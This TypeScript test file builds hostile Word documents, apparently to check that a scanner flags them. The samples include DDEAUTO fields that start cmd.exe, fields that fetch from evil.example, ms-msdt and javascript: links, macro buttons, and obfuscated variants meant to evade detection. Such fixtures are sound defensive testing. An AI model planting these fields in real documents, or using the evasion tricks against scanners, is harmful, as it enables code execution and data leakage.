import { docxFile, field, mark, relationships, said, simpleField, wordDocument, wordPart } from '../../../support/docx';
import { type Hostile, hostileFile } from './hostile';

const hostile = hostileFile('docx');

const command = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"';

const inDocument = (content: string) => docxFile({ 'word/document.xml': wordDocument(content) });

const split = [...command].map((letter) => said(letter === '"' ? '&quot;' : letter)).join('');

const instructions: [string, Hostile['because']][] = [
  [command, 'starts a program'],
  ['dde cmd x', 'starts a program'],
  ['  ddeauto  cmd x', 'starts a program'],
  ['&#68;DEAUTO cmd x', 'starts a program'],
  ['"DDEAUTO" cmd x', 'starts a program'],
  ['DATABASE \\d "x" \\c "DSN=x" \\s "SELECT 1"', 'starts a program'],
  ['PRINT "27 x"', 'starts a program'],
  ['CONTROL x.y.1', 'controls'],
  ['INCLUDETEXT "http://evil.example/x"', 'fetched from elsewhere'],
  ['INCLUDETEXT "\\\\\\\\evil.example\\\\x"', 'fetched from elsewhere'],
  ['INCLUDEPICTURE \\d "https://evil.example/x.png"', 'fetched from elsewhere'],
  ['INCLUDEPICTURE //evil.example/x.png', 'fetched from elsewhere'],
  ['INCLUDEPICTURE “file:////evil.example/x.png”', 'fetched from elsewhere'],
  ['includepicture "mhtml:http://evil.example/x"', 'fetched from elsewhere'],
  ['IMPORT "http://evil.example/x.wmf"', 'fetched from elsewhere'],
  ['INCLUDE "\\\\\\\\evil.example\\\\x"', 'fetched from elsewhere'],
  ['RD "http://evil.example/x.docx"', 'fetched from elsewhere'],
  ['LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\x.xlsx" "A!R1C1:R2C2" \\a', 'fetched from elsewhere'],
  ['LINK htmlfile "http://evil.example/x" \\a', 'fetched from elsewhere'],
  ['HYPERLINK "\\\\\\\\evil.example\\\\x"', 'leads to a program'],
  ['HYPERLINK \\l "x" "javascript:alert(1)"', 'leads to a program'],
  ['HYPERLINK \\lx "\\\\\\\\evil.example\\\\x"', 'leads to a program'],
  ['HYPERLINK \\s "ms-msdt:/x"', 'leads to a program'],
  ['HYPERLINK \\o \\t "ms-msdt:/x"', 'leads to a program'],
  ['HYPERLINK \\s \\t "ms-msdt:/x"', 'leads to a program'],
  ['HYPERLINK "\\t" "ms-msdt:/x"', 'leads to a program'],
  ['HYPERLINK \\o\\t "ms-msdt:/x"', 'leads to a program'],
  ['HYPERLINK \\o "Tip""ms-msdt:/x"', 'leads to a program'],
  ['HYPERLINK\\o "Tip" "ms-msdt:/x"', 'leads to a program'],
  ['HYPERLINK\\o ms-msdt:/x', 'leads to a program'],
  ['INCLUDEPICTURE\\d "https://evil.example/x.png"', 'fetched from elsewhere'],
  ['HYPERLINK "https://example.com" \\o "a \\" \\o "ms-msdt:/x" "', 'leads to a program'],
  ['HYPERLINK "https://example.com" \\o "a ” \\o "x ms-msdt:/x" ”', 'leads to a program'],
  ['HYPERLINK "https://example.com" \\o\u00a0"ms-msdt:/x"', 'leads to a program'],
  ['HYPERLINK "https://example.com" \\o "Tip ms-msdt:/x', 'leads to a program'],
  ['HYPERLINK \\n "file:///C:\\\\x.exe"', 'a link to a program'],
  [String.raw`INCLUDEPICTURE "file:/\\evil.example/s" \d`, 'fetched from elsewhere'],
  [String.raw`INCLUDEPICTURE "file:\\/evil.example/s"`, 'fetched from elsewhere'],
  [String.raw`INCLUDEPICTURE "h\ttp://evil.example/x.png" \d`, 'fetched from elsewhere'],
  [String.raw`INCLUDETEXT "http\://evil.example/x.docx"`, 'fetched from elsewhere'],
  [String.raw`INCLUDETEXT "f\ile://evil.example/s/x.docx"`, 'fetched from elsewhere'],
  [String.raw`LINK Word.Document.8 "file:/\\evil.example/s/x.docx" "" \a \p`, 'fetched from elsewhere'],
  [String.raw`IMPORT "h\ttp://evil.example/x"`, 'fetched from elsewhere'],
  [String.raw`RD file:/\\evil.example/s`, 'fetched from elsewhere'],
  // Linux mounts whatever server is named there, and a document may lie one step from the root.
  ['INCLUDEPICTURE "file:///net/evil.example/s/x.png" \\d', 'fetched from elsewhere'],
  ['INCLUDEPICTURE "../net/evil.example/s/x.png" \\d', 'fetched from elsewhere'],
  ['INCLUDEPICTURE "/private/var/automount/Network/evil.example/x.png" \\d', 'fetched from elsewhere'],
  ['INCLUDEPICTURE "file:///private/./var//automount/evil.example/x.png" \\d', 'fetched from elsewhere'],
  ['INCLUDEPICTURE "file://localhost/var/autofs/net/evil.example/x.png" \\d', 'fetched from elsewhere'],
  ['INCLUDEPICTURE "/var/a/../autofs/net/evil.example/x.png" \\d', 'fetched from elsewhere'],
  ['INCLUDEPICTURE "/private/var/run/user/1000/gvfs/x.png" \\d', 'fetched from elsewhere'],
  ['INCLUDEPICTURE "../System/Volumes/Data/net/evil.example/x.png" \\d', 'fetched from elsewhere'],
  // Only what may be a table has cells, and only those have numbers.
  ...['smb:evil', 'dav:evil', 'ldap:x', 'R1C1:R2C2', 's3:evil'].map((source): [string, Hostile['because']] => [
    `INCLUDEPICTURE "${source}" \\d`,
    'fetched from elsewhere',
  ]),
  ...['smb:evil', 'R1C1:evil', 'h323:evil', 'R1C1:R2C2x', 'Sheet1:A1'].map((source): [string, Hostile['because']] => [
    `LINK Excel.Sheet.12 "${source}" R1C1`,
    'fetched from elsewhere',
  ]),
  [String.raw`INCLUDEPICTURE "..\\..\\afs\\evil.example\\x.png" \d`, 'fetched from elsewhere'],
  ['INCLUDETEXT "file:../dev/zero"', 'fetched from elsewhere'],
  ['LINK Excel.Sheet.8 file:///evil.example/x.xls R1C1 \\a', 'fetched from elsewhere'],
  [String.raw`HYPERLINK "file:/\\evil.example/s"`, 'leads to a program'],
  [String.raw`HYPERLINK "java\script:alert(1)"`, 'leads to a program'],
  [String.raw`HYPERLINK "ms\-msdt:/id"`, 'leads to a program'],
  ['MACROBUTTON vnd.sun.star.script:x.py$run?language=Python&amp;location=user CLICK', 'could run a macro'],
  ['MACROBUTTON Xvnd.sun.star.script:x.py$run?language=Python&amp;location=user CLICK', 'could run a macro'],
  ['MACROBUTTON (vnd.sun.star.script:x.py$run CLICK', 'could run a macro'],
  ['MACROBUTTON "vnd.sun.star.script:x.py$run" CLICK', 'could run a macro'],
  ['MACROBUTTON "a" vnd.sun.star.script:x.py$run CLICK', 'could run a macro'],
  ['MACROBUTTON Standard.Module1.Main CLICK', 'could run a macro'],
  ['MACROBUTTON A Standard.Module1.Main CLICK', 'could run a macro'],
  ['MACROBUTTON A\u00a0vnd.sun.star.script:x.py$run CLICK', 'could run a macro'],
  ['MACROBUTTON\u00a0NoMacro vnd.sun.star.script:x.py$run CLICK', 'could run a macro'],
  ['MACROBUTTON NoMacro\u00a0vnd.sun.star.script:x.py$run CLICK', 'could run a macro'],
  ['macrobutton\\x vnd.sun.star.script:x.py$run CLICK', 'could run a macro'],
  ...['FileSendMail', 'filesend', '"WebOpenHyperlink"', 'AutoExec', 'ToolsMacro', 'InsertFile', 'FilePrintDefault'].map(
    (command): [string, Hostile['because']] => [`MACROBUTTON ${command} CLICK`, 'could run a macro'],
  ),
  ...[
    ...['MicrosoftExcel', 'MicrosoftSystemInfo', 'ControlRun', 'ExitWindows', 'EditObject', 'EditLinks', 'ViewVBCode'],
    ...['OpenSubdocument', 'UpdateFields', 'OpenHyperlink', 'followhyperlink', 'FaxService', 'EmailAttach', 'DocClose'],
    ...['WW2_FilePrint', 'HelpAbout', 'AppMinimize', 'MacroRecord', 'RecordMacro', 'CustomizeMenus', 'ConnectNetwork'],
    ...['BlogPublish', 'BlogManageAccounts', 'Research', 'ShareByEmail', 'TranslatePane', 'ReplyAll', 'PublishToWeb'],
    ...['InsertOnlinePicture', 'InsertWebVideo', 'UploadCenter', 'OnlineMeeting', 'MeetNow'],
  ].map((command): [string, Hostile['because']] => [`MACROBUTTON ${command} CLICK`, 'could run a macro']),
  [String.raw`LINK Excel.Sheet.8 "C:\\Windows\\System32\\calc.exe" "" \a`, 'starts a program'],
  [String.raw`INCLUDETEXT "C:\\a\\x.hta"`, 'starts a program'],
  [String.raw`LINK Package "%COMSPEC%" "" \a`, 'starts a program'],
  [String.raw`LINK Package "%windir%\\notepad" "" \a`, 'starts a program'],
  [String.raw`LINK Package "C:\\PROGRA~1\\INTERN~1\\iexplore" "" \a`, 'starts a program'],
  [String.raw`HYPERLINK "C:\\a\\b.wll"`, 'a link to a program'],
  ['GOTOBUTTON Xvnd.sun.star.script:x.py$run CLICK', 'could run a macro'],
  ['MACROBUTTON(vnd.sun.star.script:x.py$run CLICK', 'unknown kind'],
  ['ANYTHING vnd.sun.star.script:x.py$run CLICK', 'unknown kind'],
  [`ANYTHING ${'x '.repeat(5000)}`, 'unknown kind'],
  // Programs pass over a backslash before a name and within one.
  [String.raw`\DDEAUTO cmd "/c calc"`, 'starts a program'],
  [String.raw`"DDE\AUTO" cmd "/c calc"`, 'starts a program'],
  [String.raw`\DATABASE \d "x" \c "DSN=x"`, 'starts a program'],
  [String.raw`\LINK Excel.Sheet.12 "\\evil.example\s\x.xlsx"`, 'fetched from elsewhere'],
  [String.raw`\INCLUDEPICTURE "\\evil.example\s\x.png" \d`, 'fetched from elsewhere'],
  [String.raw`\HYPERLINK "//evil.example/s/x.exe"`, 'leads to a program'],
  [String.raw`"HYPER\LINK" "//evil.example/s/x.exe"`, 'leads to a program'],
  [String.raw`"\HYPERLINK" "//evil.example/s/x.exe"`, 'leads to a program'],
  [String.raw`\HYPERLINK "C:/Windows/System32/calc.exe"`, 'a link to a program'],
  [String.raw`\MACROBUTTON StTools.Misc.ShowTrace CLICK`, 'could run a macro'],
  [String.raw`PAGE\LINK "ms-msd\t:/id"`, 'unknown kind'],
  [String.raw`\ DDEAUTO cmd "/c calc"`, 'starts a program'],
  [String.raw`\ HYPERLINK "C:/Windows/System32/calc.exe"`, 'a link to a program'],
  // Names in other languages.
  [String.raw`EINFÜGENGRAFIK "\\evil.example\s\x.png" \d`, 'unknown kind'],
  ['INCLUREIMAGE "//evil.example/s/x.png"', 'unknown kind'],
  [String.raw`ANYTHING "htt\p://evil.example/x"`, 'unknown kind'],
  // Longer than what is read of an instruction.
  [`HYPERLINK "https://example.com/${'x'.repeat(8192)}"`, 'fetched from elsewhere'],
  [`INCLUDETEXT "C:\\\\${'x'.repeat(8192)}"`, 'fetched from elsewhere'],
];

const written: Hostile[] = instructions.flatMap(([instruction, because]) => [
  hostile(`with a field of ${instruction}`, inDocument(field(said(instruction))), because),
  hostile(`with a simple field of ${instruction}`, inDocument(simpleField(attribute(instruction))), because),
]);

function attribute(text: string): string {
  return text.replaceAll('"', '&quot;');
}

const parts: Hostile[] = [
  ['header1', 'hdr'],
  ['footer1', 'ftr'],
  ['footnotes', 'footnotes', 'footnote'],
  ['endnotes', 'endnotes', 'endnote'],
  ['comments', 'comments', 'comment'],
  ['glossary/document', 'glossaryDocument', 'docParts', 'docPart', 'docPartBody'],
].map(([name = '', root = '', ...inner]) => {
  const content = inner.reduceRight((text, element) => `<w:${element}>${text}</w:${element}>`, field(said(command)));
  return hostile(
    `with a field that starts a program in ${name}`,
    docxFile({ [`word/${name}.xml`]: wordPart(root, content) }),
    'starts a program',
  );
});

const alone: Hostile[] = [
  hostile('with a part of one paragraph', docxFile({ 'word/x.xml': wordPart('p', field(said(command))) }), 'damaged'),
];

const noise = (content: string) => `<x:x xmlns:x="urn:x">${content}</x:x>`;
const choice = (content: string) =>
  `<mc:AlternateContent><mc:Choice Requires="w">${content}</mc:Choice></mc:AlternateContent>`;

/** Instructions that are put together in a way that a simple reader does not see. */
const disguised: Hostile[] = [
  hostile('with every letter of a field apart', inDocument(field(split)), 'starts a program'),
  hostile('with a comment in a field', inDocument(field(said('DDE<!-- -->AUTO x'))), 'starts a program'),
  hostile(
    'with an instruction in pieces of text',
    inDocument(field(said('DD<![CDATA[EAU]]>TO x'))),
    'starts a program',
  ),
  hostile(
    'with deleted letters in a field',
    inDocument(field(said('DD'), said('x', 'delInstrText'), said('E x'))),
    'starts a program',
  ),
  hostile(
    'with letters of a deleted run in a field',
    inDocument(field(said('DD'), `<w:del>${said('x')}</w:del>`, said('E x'))),
    'starts a program',
  ),
  hostile(
    'with letters of text in a field',
    inDocument(field(said('D'), said('DE', 't'), said(' x'))),
    'starts a program',
  ),
  hostile(
    'with letters between those of a field',
    inDocument(field(said('D'), said('x', 't'), said('DE x'))),
    'starts a program',
  ),
  hostile('with a field that does not end', inDocument(mark('begin') + said(command)), 'starts a program'),
  hostile(
    'with a field that has no result',
    inDocument(`<w:p>${mark('begin') + said(command) + mark('end')}</w:p>`),
    'starts a program',
  ),
  hostile('with a field in a field', inDocument(field(said('IF 1 = 1 '), field(said(command)))), 'starts a program'),
  hostile(
    'with a field in the result of another',
    inDocument(field(said('PAGE'), mark('separate'), field(said(command)))),
    'starts a program',
  ),
  hostile(
    'with a field whose name is computed',
    inDocument(field(field(said('QUOTE 68 68 69')), said(' x y'))),
    'starts a program',
  ),
  hostile(
    'with a field whose name is computed in part',
    inDocument(field(said('D'), field(said('QUOTE 68 69')), said(' x'))),
    'starts a program',
  ),
  hostile(
    'with a button whose name is computed in part',
    inDocument(field(said('MACRO'), field(said('QUOTE x')), said(' x.y'))),
    'starts a program',
  ),
  hostile(
    'with a button whose macro is computed',
    inDocument(field(said('MACROBUTTON '), field(said('QUOTE x')), said(' x'))),
    'could run a macro',
  ),
  hostile(
    'with a picture whose place is computed',
    inDocument(field(said('INCLUDEPICTURE "'), field(said('REF x')), said('"'))),
    'fetched',
  ),
  ...[
    field(said('HYPERLINK '), field(said('QUOTE "ms-msdt:/id x"'))),
    field(said('HYPERLINK "'), field(said('QUOTE "ms-msdt:/id x"')), said('"')),
    field(said('HYPERLINK "'), field(said('QUOTE "file:"')), said('//evil.example/share/x"')),
    field(said('HYPERLINK "https://example.com" \\o "'), field(said('QUOTE 34')), said(' x"')),
    field(said('HYPERLINK '), simpleField('QUOTE &quot;ms-msdt:/id x&quot;')),
  ].map((content, index) =>
    hostile(`with a link whose address is computed, ${index}`, inDocument(content), 'another field computes'),
  ),
  hostile('with a field in alternatives', inDocument(field(said('DD'), choice(said('E x')))), 'starts a program'),
  hostile(
    'with the end of an instruction in alternatives',
    inDocument(field(said('DD'), choice(mark('separate')), said('E x'))),
    'damaged',
  ),
  hostile(
    'with the end of an instruction in an unknown element',
    inDocument(field(said('DD'), noise(mark('separate')), said('E x'))),
    'damaged',
  ),
  hostile(
    'with the end of an instruction in a deleted run',
    inDocument(field(said('DD'), `<w:del>${mark('separate')}</w:del>`, said('E x'))),
    'damaged',
  ),
  hostile('with a field of the other dialect', inOtherDialect(), 'starts a program'),
];

function inOtherDialect(): Buffer {
  const transitional = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main';
  const strict = 'http://purl.oclc.org/ooxml/wordprocessingml/main';
  return docxFile({ 'word/document.xml': wordDocument(field(said(command))).replace(transitional, strict) });
}

const space = 'http://schemas.microsoft.com/office/2006/xmlPackage';
const wholes = {
  '': `<pkg:package xmlns:pkg="${space}">`,
  ' under a namespace in references': `<p:package xmlns:p="${space.replace('xmlP', 'xml&#80;')}">`,
  ' of Word 2003': '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">',
};
const escaped = (text: string) => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('"', '&quot;');
const asData = (xml: string) =>
  docxFile({
    'word/_rels/document.xml.rels': relationships(['customXml', '../customXml/item1.xml']),
    'customXml/item1.xml': xml,
  });

/** Whole documents, packed as text in data that content controls show. */
const packed: Hostile[] = [
  ...['urn:x', 'http://schemas.microsoft.com/x', 'urn:schemas-microsoft-com:x'],
  'http://schemas.openxmlformats.org/wordprocessingml/2006/main',
].flatMap((namespace) =>
  Object.entries(wholes).flatMap(([which, whole]) =>
    Object.entries({
      'a text': `<a xmlns="${namespace}"><b>${escaped(whole)}</b></a>`,
      'a text in pieces': `<a xmlns="${namespace}">${escaped(whole).replace('ac', 'a<!-- --><![CDATA[c]]><b/>')}</a>`,
      'an attribute': `<x:a xmlns:x="${namespace}" b="${escaped(whole)}"/>`,
    }).map(([where, xml]) =>
      hostile(`with a document${which} packed in ${where} of ${namespace}`, asData(xml), 'packed as text'),
    ),
  ),
);

const others: Hostile[] = [
  hostile(
    'with a mail merge that asks a server',
    docxFile({
      'word/settings.xml': wordPart('settings', '<w:mailMerge><w:query w:val="SELECT * FROM x"/></w:mailMerge>'),
    }),
    'a mail merge',
  ),
  hostile('with a mail merge', docxFile({ 'word/settings.xml': mailMerge() }), 'a mail merge'),
  ...['control', 'ddeLink', 'dbPr', 'webPr', 'olapPr', 'script', 'oledbPr', 'dataFeedPr', 'textPr', 'modelTextPr'].map(
    (element) => hostile(`with the element ${element}`, inDocument(`<w:${element} w:name="x"/>`), 'starts a program'),
  ),
  ...['connectString', 'udl', 'query'].map((element) =>
    hostile(
      `with the element ${element} of a table`,
      inDocument(`<x:${element} xmlns:x="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>`),
      'starts a program',
    ),
  ),
  ...['http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing', 'urn:schemas-microsoft-com:vml'].map(
    (namespace) =>
      hostile(
        `with an online video of ${namespace}`,
        inDocument(`<x:webVideoPr xmlns:x="${namespace}" h="1"/>`),
        'an online video',
      ),
  ),
  ...['oembed', 'oembedShared'].map((element) =>
    hostile(
      `with the player of a page (${element})`,
      inDocument(
        `<x:${element} xmlns:x="http://schemas.microsoft.com/office/word/2020/oembed" oEmbedUrl="https://evil.example/"/>`,
      ),
      'an online video',
    ),
  ),
  hostile(
    'with a page in an attribute',
    inDocument('<a:ext embeddedHtml="&lt;script>location=\'http://evil.example\'&lt;/script>"/>'),
    'an online video',
  ),
  ...['webextension', 'webextensionref', 'taskpanes', 'taskpane'].map((element) =>
    hostile(`with the element ${element}`, inDocument(`<w:${element}/>`), 'macros'),
  ),
  hostile(
    'whose data hold a whole document',
    docxFile({
      'customXml/item1.xml': '<x>&lt;pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"></x>',
    }),
    'packed as text',
  ),
  hostile(
    'whose data are a whole document',
    docxFile({ 'customXml/item1.xml': '<package xmlns="http://schemas.microsoft.com/office/2006/xmlPackage"/>' }),
    'packed as text',
  ),
  hostile(
    'with a drawing of the web in a part of another kind',
    docxFile({ 'word/media/a.xml': '<svg xmlns="http://www.w3.org/2000/svg"/>' }),
    'a drawing of the web',
  ),
  hostile(
    'with a picture with a script',
    docxFile(
      { 'word/media/a.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>' },
      { svg: 'image/svg+xml' },
    ),
    'web page',
  ),
];

function mailMerge(): string {
  return wordPart('settings', '<w:mailMerge><w:connectString w:val="Provider=x;Data Source=evil"/></w:mailMerge>');
}

export const docxsWithFields: Hostile[] = [...written, ...parts, ...alone, ...disguised, ...packed, ...others];
